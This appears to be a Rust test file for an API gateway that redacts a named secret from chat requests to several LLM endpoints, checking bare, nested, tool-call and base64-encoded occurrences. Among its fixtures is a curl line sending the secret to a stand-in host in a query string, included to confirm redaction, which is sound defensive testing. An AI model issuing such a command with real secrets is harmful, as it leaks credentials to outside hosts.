//! A secret that is found once does not leave anywhere: not bare, not nested, not in another block.

use serde_json::{Value, json};

use crate::gateway::{Wish, World};

const SECRET: &str = "4b7e1f9a2c8d3650ffee1122";

fn redacting(more: &str) -> Wish {
    Wish {
        scan: more.to_owned(),
        actions: "hush_key = \"redact\"".to_owned(),
        ..Wish::default()
    }
}

fn ask(path: &str, blocks: &[Value]) -> Value {
    match path {
        "/v1/messages" => {
            let mut messages =
                vec![json!({"role": "user", "content": format!("hush_key = {SECRET}\n")})];
            messages.extend(
                blocks
                    .iter()
                    .map(|block| json!({"role": "user", "content": [block]})),
            );
            json!({"model": "claude-haiku-4-5", "max_tokens": 9, "messages": messages})
        }
        "/v1/chat/completions" => {
            let arguments = json!({"command": format!("echo {SECRET}")}).to_string();
            json!({"model": "gpt-5.5", "max_tokens": 9, "messages": [
                {"role": "user", "content": format!("hush_key = {SECRET}\n")},
                {"role": "assistant", "tool_calls": [{"id": "t", "type": "function", "function": {"name": "sh", "arguments": arguments}}]},
                {"role": "tool", "tool_call_id": "t", "content": SECRET}]})
        }
        _ => {
            let arguments = json!({"command": format!("echo {SECRET}")}).to_string();
            json!({"model": "gpt-5.5", "max_output_tokens": 9, "instructions": format!("never say {SECRET}"), "input": [
                {"role": "user", "content": [{"type": "input_text", "text": format!("hush_key = {SECRET}\n")}]},
                {"type": "function_call", "call_id": "t", "name": "sh", "arguments": arguments},
                {"type": "function_call_output", "call_id": "t", "output": SECRET}]})
        }
    }
}

#[tokio::test]
async fn a_value_that_a_name_gave_away_once_leaves_nowhere() {
    let world = World::start(redacting("")).await;
    let file = json!({"token": SECRET, "list": [SECRET]}).to_string();
    let blocks = [
        json!({"type": "text", "text": format!("it is {SECRET}, really")}),
        json!({"type": "text", "text": SECRET}),
        json!({"type": "tool_use", "id": "t", "name": "Write", "input": {"content": file.clone(), SECRET: 1}}),
        json!({"type": "tool_result", "tool_use_id": "t", "content": json!({"file": file}).to_string()}),
        json!({"type": "text", "text": format!("curl https://x.example/?k={SECRET}%20")}),
    ];
    for (path, places) in [
        ("/v1/messages", 9),
        ("/v1/chat/completions", 3),
        ("/v1/responses", 4),
    ] {
        let reply = world
            .post(path)
            .json(&ask(path, &blocks))
            .send()
            .await
            .expect("an answer");
        assert_eq!(reply.status(), 200, "{path}");
        assert_eq!(reply.headers()["tollgate-redacted"], places.to_string());
        let seen = String::from_utf8(world.provider.last().body).expect("UTF-8");
        assert!(!seen.contains(SECRET), "{path}: {seen}");
        assert_eq!(
            seen.matches("TG_hush_key_").count(),
            places,
            "{path}: {seen}"
        );
        let _valid: Value = serde_json::from_str(&seen).expect("JSON");
    }
}

#[tokio::test]
async fn where_the_other_place_cannot_be_rewritten_the_request_is_refused_or_it_is_recorded() {
    use base64::Engine as _;
    let coded = base64::engine::general_purpose::STANDARD.encode(format!("key: {SECRET}; end"));
    let block = json!({"type": "text", "text": coded});
    for (setting, status) in [("", 400), ("on_unredactable = \"alert\"", 200)] {
        let world = World::start(redacting(setting)).await;
        let reply = world
            .post("/v1/messages")
            .json(&ask("/v1/messages", std::slice::from_ref(&block)))
            .send()
            .await
            .expect("an answer");
        assert_eq!(reply.status(), status);
        let row = world.rows(1).await.pop().expect("a row");
        let told = row["findings"].to_string();
        assert_eq!(told.contains("unredacted"), status == 200, "{told}");
        assert_eq!(told.contains("block"), status == 400, "{told}");
        assert_eq!(told.contains("\"redact\""), status == 200, "{told}");
    }
}

#[tokio::test]
async fn without_the_name_nothing_is_touched() {
    let world = World::start(redacting("")).await;
    let body = json!({"model": "claude-haiku-4-5", "max_tokens": 9, "messages": [{"role": "user", "content": SECRET}]}).to_string();
    let reply = world.post("/v1/messages").body(body.clone()).send().await;
    assert_eq!(reply.expect("an answer").status(), 200);
    assert_eq!(world.provider.last().body, body.as_bytes());
}
